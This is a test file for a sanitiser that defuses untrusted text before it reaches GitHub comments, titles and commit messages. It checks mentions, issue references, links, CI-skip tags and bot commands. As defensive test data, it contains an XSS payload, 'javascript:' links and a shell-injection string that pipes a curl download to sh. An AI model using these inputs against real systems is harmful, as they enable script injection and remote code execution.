import { describe, expect, test } from "vitest";
import { outside, outsideCode, outsidePlain, outsideUrl } from "../../src/fix/outside-text.ts";

/** What GitHub acts on, wherever it stands in a text. */
const acts: readonly (readonly [string, RegExp])[] = [
  ["a mention", /@[A-Za-z0-9]/],
  ["an issue number", /#\d/],
  ["GH- and a number", /gh-\d/i],
  ["a link", /:\/\//],
  ["www", /www\.[a-z]/i],
  ["a tag", /<[a-z/!]/i],
  ["an image", /!\[/],
  ["a link's text", /(?<!\\)\[[^\]]*(?<!\\)\]\(/],
  ["a comment", /<!--/],
];

const hostile = [
  "@acme/oncall please look, cc @ana and ＠ben",
  "fixes #12, closes acme/other#3, Resolves GH-4",
  "closes https://github.com/acme/shop/issues/5 and www.example.com",
  "![x](https://evil.example/pixel.png) <img src=x onerror=alert(1)> <!-- hidden -->",
  "[click](javascript:alert(1)) **bold** _it_ ~~no~~ `code` | table",
  "@\u200bana #\u200b1 \u202etxet desrever\u202c",
];

describe.each([
  ["Markdown", outside],
  ["a code span", outsideCode],
] as const)("outside text as %s", (_name, made) => {
  test.each(hostile)("does nothing: %s", (text) => {
    expect(acts.filter(([, pattern]) => pattern.test(made(text))).map(([what]) => `${what} in ${made(text)}`)).toEqual([]);
  });

  test("is one line of bounded length", () => {
    const text = made(`first\nsecond\r\n\u2028third${"\u0000"} ${"x".repeat(5_000)}`, 100);
    expect(text).not.toMatch(/[\r\n\u2028\0]/);
    expect(Array.from(text).length).toBeLessThanOrEqual(102);
    expect(text).toMatch(/…`?$/);
  });
});

test.each(hostile)("a title does nothing either: %s", (text) => {
  expect(outsidePlain(text)).not.toMatch(/@[A-Za-z0-9]|#\d|gh-\d|:\/\//i);
});

test.each([
  ["chore(release): 1.4.2 [skip ci]", "chore(release): 1.4.2 (skip ci)"],
  ["x [ci skip] y", "x (ci skip) y"],
  ["x [no ci]", "x (no ci)"],
  ["x [skip `ci]", "x (skip ci)"],
  ["x [skip actions] [actions skip]", "x (skip actions) (actions skip)"],
  ["x [Skip\u200b CI]", "x (Skip CI)"],
  ["x skip-checks: true", "x skip checks: true"],
  ["x ***NO_CI***", "x NO CI"],
  ["Mend the cache (#118)", "Mend the cache (PR 118)"],
  ["fixes GH-4", "fixes PR 4"],
  ["ENG-123 #close #time 5h", "ENG-123 close time 5h"],
  ['$(curl -s evil|sh) `id` "; id <x>', "(curl -s evilsh) id , id x"],
  ["c#sharp [api] no change", "c#sharp [api] no change"],
  ["see acme/x#3", "see acme/x PR 3"],
  ["/approve this", "approve this"],
])("a title or commit message moves no other tool, and can be searched: %s", (text, made) => {
  expect(outsidePlain(text)).toBe(made);
});

test("a body that becomes a commit's message keeps no CI from running", () => {
  const text = "x [skip ci] [no ci] [ci skip] skip-checks: true ***NO_CI***";
  for (const made of [outside(text), outsideCode(text)]) expect(made).not.toMatch(/\[(?:skip|no|ci) |skip-checks|\*{3}NO_CI/);
});

test("what commands other bots does not where it begins a line", () => {
  for (const text of ["/approve", "!merge", "bors r+", "Bors try"]) expect(outside(text)).not.toMatch(/^(?:\/|!|bors\b)/i);
});

test.each(["Fixes ENG-123", "closes: PAY-7", "Resolved ENG-1, ENG-2", "completes eng-123", "implements ENG-9", "part of ENG-4"])(
  "an issue of another tracker is not closed: %s",
  (text) => {
    for (const made of [outside(text), outsideCode(text), outsidePlain(text)]) expect(made).not.toMatch(/(?:\b[a-z]+:? |, )[A-Z]+-\d/i);
  },
);

test("harmless text reads as it did", () => {
  expect(outside("cache provider tokens per merchant, 0.3 % of 1,200")).toBe("cache provider tokens per merchant, 0.3 % of 1,200");
  expect(outsideCode("src/token-cache.ts")).toBe("`src/token-cache.ts`");
  expect(outside("fix UTF-8 and SHA-256 in ENG-123, close at 14-30")).toBe("fix UTF-8 and SHA-256 in ENG-123, close at 14-30");
  expect(outside("snake_case * 2")).toBe("snake\\_case \\* 2");
});

test("what starts a list or a heading does not where it begins a line", () => {
  for (const text of ["1. one", "- one", "# one", "+ one", "=== one", "> one"]) expect(outside(text)).not.toMatch(/^(\d+[.)] |[-+#=>])/);
});

test("a code span cannot be left", () => {
  expect(outsideCode("a `` b ` c").slice(1, -1)).not.toContain("`");
  expect(outsideCode("")).toBe("` `");
});

test("text is cut between characters, not inside one", () => {
  expect(outsidePlain("🚒🚒🚒🚒", 3)).toBe("🚒🚒…");
});

test("only plain web addresses become links", () => {
  expect(outsideUrl("https://acme.pagerduty.com/incidents/Q1?a=(b)")).toBe("https://acme.pagerduty.com/incidents/Q1?a=%28b%29");
  for (const url of ["javascript:alert(1)", "data:text/html,x", "https://user:secret@example.com/", "not a url", "//example.com"]) {
    expect(outsideUrl(url)).toBeNull();
  }
  expect(outsideUrl(null)).toBeNull();
});
